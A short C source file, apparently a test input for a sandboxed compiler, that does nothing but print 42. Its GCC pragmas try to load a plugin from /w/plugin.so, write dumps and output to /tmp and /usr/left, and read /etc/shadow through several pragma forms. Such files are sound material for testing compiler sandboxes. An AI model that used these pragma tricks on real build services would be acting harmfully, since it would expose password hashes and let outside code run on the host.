// Asks the compiler by pragmas to load, to read and to write.
#include <stdio.h>
#pragma GCC optimize("-fplugin=/w/plugin.so")
#pragma GCC optimize("-fdump-tree-all=/tmp/dump", "-o/usr/left")
#pragma GCC target("@/etc/shadow")
#pragma GCC dependency "/etc/shadow"
#pragma comment(lib, "/etc/shadow")
_Pragma("GCC pch_preprocess \"/etc/shadow\"")
int main(void) { puts("42"); }
